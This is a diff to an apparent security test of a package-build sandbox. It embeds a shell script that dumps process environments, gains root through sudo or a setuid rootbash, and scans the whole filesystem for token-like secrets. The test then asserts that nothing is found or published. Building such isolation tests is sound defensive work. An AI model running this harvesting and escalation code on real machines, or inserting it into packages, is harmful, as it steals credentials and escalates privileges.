@@ -21,15 +21,20 @@ HUNT = r'''
     echo "== env"; env | sort
     echo "== environ"
     for f in /proc/[0-9]*/environ; do echo "-- $f"; tr '\0' '\n' < "$f" 2>/dev/null || true; done
-    as=""
-    if command -v sudo >/dev/null && sudo -n true 2>/dev/null; then as="sudo -n"; echo "== root through sudo"; fi
+    as() { "$@"; }
+    if command -v sudo >/dev/null && sudo -n true 2>/dev/null; then
+        as() { sudo -n "$@"; }; echo "== root through sudo"
+    elif [ -u /usr/local/bin/rootbash ]; then
+        as() { /usr/local/bin/rootbash -p -c '"$@"' as "$@"; }; echo "== root through rootbash"
+    fi
+    as id
     {
         env | cut -d= -f2-
         for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
-            $as cat "$f" 2>/dev/null | tr '\0' '\n' | cut -d= -f2-
+            as cat "$f" 2>/dev/null | tr '\0' '\n' | cut -d= -f2-
         done
-        $as find / -xdev \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f \
-            -size -4M -print0 2>/dev/null | $as xargs -0 cat 2>/dev/null \
+        as find / -xdev \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f \
+            -size -4M -print0 2>/dev/null | as xargs -0 cat 2>/dev/null \
             | grep -aoE '(^|[^A-Za-z0-9_-])[A-Za-z0-9_-]{43}([^A-Za-z0-9_-]|$)' \
             | grep -aoE '[A-Za-z0-9_-]{43}' | sort -u | head -n 300
     } | grep -avE '^.{0,7}$' | awk '!seen[$0]++' > "$srcdir/found"  # environment values first
@@ -88,6 +93,7 @@ def test_a_pkgbuild_finds_no_secret_and_publishes_nothing(world):
 
     # it really looked (every proc environ it could read, the files), and found nothing
     assert "== env" in log and "-- /proc/1/environ" in log and "candidates" in log
+    assert "== root through" in log and "euid=0(root)" in log, log[:3000]
     assert "== trojan /" in log and "could not make the trojan" not in log
     assert "== tried" in log and ", 0 accepted" in log, log[-2000:]
     assert API_KEY not in log
